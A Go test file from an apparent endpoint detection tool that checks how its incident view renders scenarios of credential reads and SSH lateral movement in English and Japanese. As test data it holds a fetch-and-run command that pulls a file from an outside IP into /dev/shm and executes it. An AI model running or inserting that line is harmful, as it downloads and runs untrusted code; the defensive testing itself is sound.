package main

import (
	"bytes"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	consolev1 "github.com/yagura-edr/yagura/internal/gen/console/v1"
	"github.com/yagura-edr/yagura/internal/incident"
	"github.com/yagura-edr/yagura/internal/terminal"
)

// tellScenario prints `incidents show` of an authored scenario in 100 columns. found says which events a rule found.
func tellScenario(t *testing.T, name, language string, found func(*event.Event) bool) string {
	t.Helper()
	a, err := txtar.ParseFile(filepath.Join("../../scenario/testdata", name+".txtar"))
	if err != nil {
		t.Fatal(err)
	}
	var events []event.Stamped
	for l := range strings.SplitSeq(strings.TrimSpace(string(a.Files[1].Data)), "\n") {
		n := 1
		if times, rest, ok := strings.Cut(l, " times "); ok && len(times) < 5 {
			n, _ = strconv.Atoi(times)
			l = rest
		}
		id, body, _ := strings.Cut(l, " ")
		i, err := event.ParseID(id)
		if err != nil {
			t.Fatal(err)
		}
		e, err := event.FromJSON([]byte(body))
		if err != nil {
			t.Fatal(err)
		}
		for k := range uint64(n) {
			x := *e
			x.Actor.PID += k
			if n > 1 {
				x.BootNS += k * 1_000_000
				x.Actor.Key = event.LinuxKey(x.BootNS, uint32(x.Actor.PID), 9)
			}
			j := i
			j.Seq += k
			events = append(events, event.Stamped{ID: j, Event: &x})
		}
	}
	var dets []detection.Detection
	var rows []*consolev1.Detection
	for _, e := range events {
		if !found(e.Event) {
			continue
		}
		d := detection.Detection{
			ID: detection.NewID("r", "1", e.ID), RuleID: "r", Title: detection.Said{En: "Program run from memory", Ja: "メモリー上のプログラムの実行"},
			Severity: detection.High, Event: e,
		}
		dets = append(dets, d)
		rows = append(rows, &consolev1.Detection{
			Id: d.ID, Title: &consolev1.Said{En: d.Title.En, Ja: d.Title.Ja}, Severity: "high", HostId: e.ID.Host.String(),
			Process: event.Ref{Host: e.ID.Host, Key: e.Event.Actor.Key}.String(),
			Todo:    &consolev1.Said{En: "Isolate the host.", Ja: "ホストを隔離してください。"},
		})
	}
	story := incident.FromEvents(events, dets, incident.Context{})
	var out bytes.Buffer
	s := &shell{ctx: t.Context(), stdout: &out, stderr: &out, tongue: tongueOf(language), data: t.TempDir(), program: "yagura", columns: 100}
	tell := telling{shell: s, story: story, incident: &consolev1.Incident{Row: &consolev1.IncidentRow{
		Id: "i-01900000-0000-7000-8000-000000000001", Severity: "high", State: "new", Title: &consolev1.Said{En: "Program run from memory", Ja: "メモリー上のプログラムの実行"},
		First: dets[0].Event.Event.Time, Last: dets[0].Event.Event.Time, Detections: uint32(len(dets)),
	}, Detections: rows}}
	tell.tell()
	return out.String()
}

// What is left out is a row of its own with its number, and the command that shows it; 100 columns are enough.
func TestIncidentShowSaysWhatIsLeftOut(t *testing.T) {
	for language, want := range map[string][]string{
		terminal.English:  {"+240 not part of this story", "All that was started there:", "yagura --data"},
		terminal.Japanese: {"ほか 240 個はこの攻撃ストーリーの対象外", "そこで起動されたものすべて:", "関与したアカウント"},
	} {
		got := tellScenario(t, "attack-in-a-ci-job", language, func(e *event.Event) bool { return e.Kind == event.FileReadCredential })
		t.Log(got)
		for _, w := range want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: no %q in\n%s", language, w, got)
			}
		}
		for l := range strings.SplitSeq(got, "\n") {
			if terminal.Width(l) > 100 && !strings.Contains(l, "yagura ") {
				t.Errorf("%s: %d columns: %s", language, terminal.Width(l), l)
			}
		}
	}
}

// Every row of a story of two hosts names its own, the advice says where, and a long command line stands there once.
func TestIncidentShowNamesHostsAndALongCommandOnce(t *testing.T) {
	for _, language := range []string{terminal.English, terminal.Japanese} {
		got := tellScenario(t, "lateral-by-ssh", language, func(e *event.Event) bool {
			return e.Kind == event.ProcessExec && (strings.HasPrefix(e.Actor.CommandLine, "sh -c curl") || strings.Contains(e.Actor.Path, ".y"))
		})
		t.Log(got)
		long := "curl -so /dev/shm/.x http://203.0.113.9/x; chmod +x /dev/shm/.x; /dev/shm/.x"
		flat := strings.Join(strings.Fields(got), "")
		if n := strings.Count(flat, strings.Join(strings.Fields(long), "")); n != 1 {
			t.Errorf("%s: the long command line stands there %d times; want once\n%s", language, n, got)
		}
		_, tree, _ := strings.Cut(got, "web@ga)")
		for _, w := range []string{"web@ga)", "(512, web@gb)", "ga → gb", "gb → ga", "gb: ", "ga: "} {
			if !strings.Contains(got, w) {
				t.Errorf("%s: no %q\n%s", language, w, got)
			}
		}
		if tree == "" {
			t.Errorf("%s: no row on ga", language)
		}
	}
}
